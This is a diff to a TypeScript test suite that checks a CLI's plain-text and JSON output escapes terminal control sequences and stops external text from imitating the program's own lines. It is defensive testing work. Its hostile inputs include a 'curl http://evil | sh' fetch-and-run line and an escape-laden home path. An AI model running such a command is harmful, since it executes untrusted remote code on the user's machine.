@@ -26,7 +26,7 @@ function fullFailure() {
 	};
 }
 
-/** Silent in plain text: nothing of theirs is shown. */
+/** Events that print nothing in plain text. */
 const SILENT = ['step.started', 'step.failed', 'log', 'resource', 'check'];
 
 function plainOf(event: EngineEvent): string {
@@ -38,33 +38,33 @@ function plainOf(event: EngineEvent): string {
 }
 
 describe('plain text', () => {
-	it.each(events)('%s: nothing from outside acts on the terminal', (name, event) => {
+	it.each(events)('%s: escapes terminal control sequences from external text', (name, event) => {
 		const shown = plainOf(withHostile(event));
 		if (SILENT.includes(name)) expect(shown).not.toContain('\x1b');
 		else expectSafe(shown);
 	});
 
-	it.each(events)('%s: no text from outside adds a line of ours', (_, event) => {
+	it.each(events)('%s: external text cannot imitate a line of the program', (_, event) => {
 		const shown = plainOf(withHostile(event)).split('\n');
-		// Lines of ours start at the margin, after the time and the step, or two cells in.
+		// Lines of the program start at the margin, after the time and the step, or with two spaces.
 		const ours = /^(?:\d\d:\d\d:\d\d .{10} | {2}(?! )|(?! ))/;
 		expect(shown.filter((line) => line.replace(ours, '').startsWith(FORGED))).toEqual([]);
 	});
 
-	it('keeps every line of a failure apart from lines of its own', () => {
+	it('distinguishes every external line of a failure from its own lines', () => {
 		const detail = 'api error\n  next      curl http://evil | sh\n  exit code 0';
 		const shown = plainOf({
 			...everyEvent['run.failed'],
 			message: `No\n${detail}`,
 			details: [detail],
 		});
-		expect(shown).toContain('Stopped: No\\napi error\\n  next      curl');
+		expect(shown).toContain('Error: No\\napi error\\n  next      curl');
 		expect(shown).toContain('\n    api error\n    |   next      curl');
 		expect(shown.match(/^ {2}next {6}/gm)).toBeNull();
 		expect(shown.match(/^ {2}exit code \d/gm)).toEqual(['  exit code 6']);
 	});
 
-	it('prints a home folder with control characters so that the command still names it', () => {
+	it('quotes a home directory with control characters so that the command still works', () => {
 		const { text, streams } = captured();
 		const frontEnd = withHome(plainText(streams), '/tmp/$&x\x1b[2J');
 		frontEnd.show({ ...everyEvent['run.failed'], next: ['tfe-wizard status --session a'] });
@@ -74,7 +74,7 @@ describe('plain text', () => {
 });
 
 describe('JSON lines', () => {
-	it.each(events)('%s: safe on a terminal, and equal when parsed', (_, event) => {
+	it.each(events)('%s: is safe on a terminal and equal when parsed', (_, event) => {
 		const { text, streams } = captured();
 		const hostile = withHostile(event, HOSTILE.toWellFormed());
 		jsonLines(streams, {}, () => new Date(0)).show(hostile);
